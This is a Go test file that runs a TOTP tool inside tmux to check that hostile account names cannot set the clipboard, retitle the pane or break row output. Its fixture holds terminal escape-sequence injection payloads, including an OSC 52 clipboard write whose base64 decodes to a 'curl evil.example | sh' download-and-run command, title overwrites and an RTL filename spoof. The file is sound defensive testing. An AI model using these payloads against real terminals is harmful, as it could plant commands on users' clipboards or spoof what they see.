package app

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// hostileURIs are accounts whose names try to drive the terminal: OSC 52
// (set the clipboard), OSC 0/2 (window and pane title), a screen clear,
// CR/LF (a row of its own), colours, an 8-bit CSI, bidi controls.
const hostileURIs = `otpauth://totp/%1B%5D52%3Bc%3BY3VybCBldmlsLmV4YW1wbGUgfCBzaA%3D%3D%07:dr.a?secret=JBSWY3DPEHPK3PXP
otpauth://totp/%1B%5D2%3Bpwned%07%1B%5D0%3Bpwned%07:dr.b?secret=JBSWY3DPEHPK3PXP
otpauth://totp/%1B%5B2J%1B%5BH:dr.c?secret=JBSWY3DPEHPK3PXP
otpauth://totp/EHR%0D%0Aevil:dr.d?secret=JBSWY3DPEHPK3PXP
otpauth://totp/%1B%5B31mred%1B%5B0m:dr.e?secret=JBSWY3DPEHPK3PXP
otpauth://totp/%C2%9B31m:dr.f?secret=JBSWY3DPEHPK3PXP
otpauth://totp/Mail:%E2%80%AEgnp.exe?secret=JBSWY3DPEHPK3PXP&issuer=Mail
otpauth://totp/x%1BPtmux%3B%1B%1B%5D52%3Bc%3BZXZpbA%3D%3D%07%1B%5C:dr.h?secret=JBSWY3DPEHPK3PXP
`

// In a real tmux with the clipboard open to programs (set-clipboard on),
// `wardkey list` and a failed `wardkey code` over hostile names leave
// tmux's paste buffers empty and the pane title as it was, and print one
// row per account.
func TestTmuxHostileNames(t *testing.T) {
	needTool(t, "tmux")
	bin := buildWardkey(t)
	work := t.TempDir()
	home := filepath.Join(work, "home")
	pass := filepath.Join(work, "pass")
	uris := filepath.Join(work, "hostile.txt")
	for f, s := range map[string]string{pass: "a long enough passphrase\n", uris: hostileURIs} {
		if err := os.WriteFile(f, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	env := []string{"WARDKEY_HOME=" + home, "WARDKEY_PASSPHRASE_FILE=" + pass, "DBUS_SESSION_BUS_ADDRESS=unix:path=/nonexistent", "PATH=" + os.Getenv("PATH")}
	for _, args := range [][]string{{"init"}, {"import", uris}} {
		cmd := exec.Command(bin, args...)
		cmd.Env = env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("wardkey %v: %v\n%s", args, err, out)
		}
	}

	sock := fmt.Sprintf("wk-hostile-%d", os.Getpid())
	tmux := func(args ...string) string {
		t.Helper()
		out, err := exec.Command("tmux", append([]string{"-L", sock}, args...)...).CombinedOutput()
		if err != nil && args[0] != "list-buffers" {
			t.Fatalf("tmux %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	tmux("-f", "/dev/null", "new-session", "-d", "-s", "t", "-x", "160", "-y", "50", "env PS1= sh")
	defer exec.Command("tmux", "-L", sock, "kill-server").Run()
	tmux("set", "-g", "set-clipboard", "on")
	tmux("set", "-g", "allow-passthrough", "on")
	title := tmux("display", "-p", "-t", "t", "#{pane_title}")

	// run types a command between two markers and returns the rows it
	// printed (wrapped rows joined: only a real line break makes a row).
	run := func(marker, cmdline string) []string {
		t.Helper()
		tmux("send-keys", "-t", "t", "echo "+marker+"-start; "+cmdline+"; echo "+marker+"-end", "Enter")
		deadline := time.Now().Add(30 * time.Second)
		for {
			lines := strings.Split(tmux("capture-pane", "-p", "-J", "-S", "-", "-t", "t"), "\n")
			start, end := -1, -1
			for i, l := range lines {
				// A prompt printed late on a busy machine can share the
				// marker's row ("# list-start"); the typed command line
				// itself holds "echo".
				l = strings.TrimRight(l, " ")
				if strings.Contains(l, "echo ") {
					continue
				}
				switch {
				case strings.HasSuffix(l, marker+"-start"):
					start = i
				case strings.HasSuffix(l, marker+"-end"):
					end = i
				}
			}
			if start >= 0 && end > start {
				return lines[start+1 : end]
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s did not finish:\n%s", cmdline, strings.Join(lines, "\n"))
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	// A short command line, so the pane shows it on one row.
	w := filepath.Join(work, "w")
	if err := os.WriteFile(w, []byte("#!/bin/sh\nexec env "+strings.Join(env, " ")+" "+bin+" \"$@\"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	tmux("send-keys", "-t", "t", "cd "+work, "Enter")
	prefix := "./w"
	rows := run("list", prefix+" list")
	if bufs := tmux("list-buffers"); strings.TrimSpace(bufs) != "" {
		t.Errorf("wardkey list put something on tmux's clipboard: %s", bufs)
	}
	if got := tmux("display", "-p", "-t", "t", "#{pane_title}"); got != title {
		t.Errorf("the pane title changed from %q to %q", title, got)
	}
	if n := strings.Count(hostileURIs, "\n") + 1; len(rows) != n {
		t.Errorf("%d rows, want %d (header and one per account):\n%s", len(rows), n, strings.Join(rows, "\n"))
	}

	run("code", prefix+" code dr")
	run("json", prefix+" list --json")
	if bufs := tmux("list-buffers"); strings.TrimSpace(bufs) != "" {
		t.Errorf("wardkey put something on tmux's clipboard: %s", bufs)
	}
	if got := tmux("display", "-p", "-t", "t", "#{pane_title}"); got != title {
		t.Errorf("the pane title changed from %q to %q", title, got)
	}
}
